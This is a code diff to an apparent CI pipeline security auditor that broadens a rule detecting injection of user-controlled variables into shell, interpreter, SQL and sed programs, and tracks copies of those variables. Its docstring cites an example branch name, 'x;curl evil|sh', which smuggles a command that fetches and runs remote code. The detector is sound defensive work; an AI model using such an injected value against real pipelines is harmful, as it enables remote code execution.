@@ -4,16 +4,18 @@ from __future__ import annotations
 
 import re
 from collections.abc import Iterator
+from itertools import pairwise
 
 from airflow_provider.audit.analysis.shell.downloads import Downloads
 from airflow_provider.audit.analysis.shell.fetching import Run, only_asks
 from airflow_provider.audit.analysis.shell.inner_shells import kept_scripts
 from airflow_provider.audit.analysis.shell.kept_options import options_in, with_options
 from airflow_provider.audit.analysis.shell.parsing import parse
-from airflow_provider.audit.analysis.shell.script import Command
+from airflow_provider.audit.analysis.shell.script import Command, Word
 from airflow_provider.audit.analysis.shell.unchecked_settings import piped_off
 from airflow_provider.audit.analysis.shell.unchecked_tls import by_assignment, by_command, by_variable, is_local
 from airflow_provider.audit.facts.action import SCRIPT_FIELDS, ActionFacts
+from airflow_provider.audit.facts.commands import Commands
 from airflow_provider.audit.rules.outcome import Outcome, fail, not_applicable, not_available
 from airflow_provider.audit.rules.rule import rule
 from airflow_provider.audit.settings.levels import Confidence, Persona, Severity
@@ -201,7 +203,8 @@ def _fetches(command: Command) -> bool:
 def injection_from_variables(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
     r"""
     A variable that is set by the person who pushes or starts the pipeline, such as the branch or the commit message, is used without quotes
-    or inside a script that is passed as text.
+    or inside a script, a program or a query that is passed as text: ``sh -c "..."``, ``python -c "..."``, ``mysql -e "..."``. Copies of it
+    count there.
 
     Why:
     A branch may be named ``x;curl evil|sh``, or like an option. In ``eval`` and ``sh -c`` even quotes do not help.
@@ -224,18 +227,62 @@ def injection_from_variables(action: ActionFacts, settings: AuditSettings) -> It
     passed = {variable.key for variable in action.variables if variable.settable}
     for script in scripts:
         reported: set[tuple[tuple[str, int], str]] = set()
+        copies = _copies(script, passed)
         for path, command in script.every_command():
             if command.name in ("echo", "printf", "[[", "[", "export", "read", "test"):
                 continue
-            inner = any(nested.via in ("string", "heredoc") for nested in command.nested)
-            texts = [*command.words, *(item.target for item in command.redirections if inner and item.operator.startswith("<<"))]
-            for expansion in (expansion for word in texts for expansion in word.expansions):
-                name = expansion.name
-                used = (not expansion.quoted or inner) and (_OF_A_PERSON.fullmatch(name) or name in passed)
-                if used and (path.place, name) not in reported:
-                    reported.add((path.place, name))
-                    how = "within a script that is passed as text to" if inner else "without quotes by"
-                    yield fail(path, f"{command.name} ${name}", f"{name} is used {how} {command.name}.")
+            for word, as_code in _uses(command):
+                for expansion in word.expansions:
+                    name = expansion.name
+                    named = _OF_A_PERSON.fullmatch(name) or name in passed or (as_code and name in copies)
+                    if named and (as_code or not expansion.quoted) and (path.place, name) not in reported:
+                        reported.add((path.place, name))
+                        how = "within a script that is passed as text to" if as_code else "without quotes by"
+                        yield fail(path, f"{command.name} ${name}", f"{name} is used {how} {command.name}.")
+
+
+def _uses(command: Command) -> Iterator[tuple[Word, bool]]:
+    """The words and texts of a command, and whether they are run as a script, a program or a query."""
+    inner = any(nested.via in ("string", "heredoc") for nested in command.nested)
+    kept = set(kept_scripts(command))
+    programs = {id(word) for word in _programs(command)}
+    yield from ((word, inner or id(word) in programs) for word in command.words)
+    for item in command.redirections:
+        if item.operator.startswith("<<") and (inner or item.target.text in kept):
+            yield item.target, True
+
+
+def _copies(script: Commands, passed: set[str]) -> set[str]:
+    """The variables that hold such a value: ``M="$BUDDY_EXECUTION_REVISION_MESSAGE"``."""
+    copies: set[str] = set()
+    for _, assignment in script.every_assignment():
+        if any(_OF_A_PERSON.fullmatch(item.name) or item.name in passed or item.name in copies for item in assignment.value.expansions):
+            copies.add(assignment.name)
+    return copies
+
+
+_PROGRAM = re.compile(r"-[A-Za-z]{0,5}[ceErRpn]|--(?:eval|print|run)")
+_QUERY = re.compile(r"-[A-Za-z]{0,3}[ceQ]|--(?:eval|execute|command|query)")
+_INTERPRETERS = re.compile(r"(?:python|pypy|node|nodejs|php|ruby|perl|lua|deno|bun|osascript)[\d.]*")
+_CLIENTS = frozenset({"mysql", "mariadb", "psql", "sqlcmd", "mongo", "mongosh", "clickhouse-client", "cqlsh"})
+_REPLACES = re.compile(r"\s{0,5}(?:[\d,$]{1,12}|/[^/]{0,60}/)?\s{0,3}s[/|#,~@:]")
+"""A program of sed, whose replacement may run commands by the flag ``e``."""
+
+
+def _programs(command: Command) -> Iterator[Word]:
+    """The words that a command runs as a program, or as SQL: ``python -c "..."``, ``mysql -e "..."``."""
+    words = command.effective
+    if command.name == "sed":
+        yield from (word for word in words[1:] if _REPLACES.match(word.text))
+    elif command.name in _CLIENTS or _INTERPRETERS.fullmatch(command.name):
+        for option, word in pairwise(words):
+            options = _QUERY if command.name in _CLIENTS else _PROGRAM
+            if options.fullmatch(option.text) or word.text.startswith(("--eval=", "--execute=", "--command=", "--query=")):
+                yield word
+            elif option is not words[0] and not option.text.startswith("-") and options is _PROGRAM:
+                return  # what follows is for the program in that file
+    elif operands := [word for word in words[1:] if not word.text.startswith("-")]:
+        yield from {"awk": operands[:1], "gawk": operands[:1], "sqlite3": operands[1:2]}.get(command.name, [])
 
 
 _OF_A_PERSON = re.compile(
